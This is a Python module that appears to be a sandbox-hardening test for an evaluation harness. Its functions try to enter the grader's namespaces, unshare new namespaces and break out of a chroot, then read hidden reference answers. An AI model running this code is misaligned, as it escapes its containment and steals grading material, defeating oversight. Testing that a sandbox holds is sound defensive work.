"""Go over to the grader's namespaces, or make new ones with other rights; break out of the root.

stopped by: seccomp, namespaces
proof: whoever is in the marker's mount namespace sees its files
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID = 0x20000, 0x10000000, 0x20000000


def read(places):
    for name in ("hidden", "reference", "home"):
        try:
            with open(places[name]) as file:
                yield file.read()
        except OSError:
            pass


def entered(pid):
    pidfd = LIBC.syscall(434, pid, 0)
    if pidfd >= 0 and LIBC.setns(pidfd, NEWNS | NEWUSER) == 0:
        return True
    for kind in ("user", "mnt"):
        try:
            place = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if LIBC.setns(place, 0) == 0:
            return True
    return False


def loot(places):
    found = list(read(places))
    for pid in (1, os.getppid(), places["grader"]):
        if entered(pid):
            found += read(places)
    for flags in (NEWUSER | NEWNS, NEWUSER, NEWNS):
        if LIBC.unshare(flags) == 0:
            found += read(places)
    try:  # the old way out of a chroot
        above = os.open("/", os.O_RDONLY)
        os.makedirs("inner", exist_ok=True)
        os.chroot("inner")
        os.fchdir(above)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        found += read(places)
    except OSError:
        pass
    return "\n".join(found)
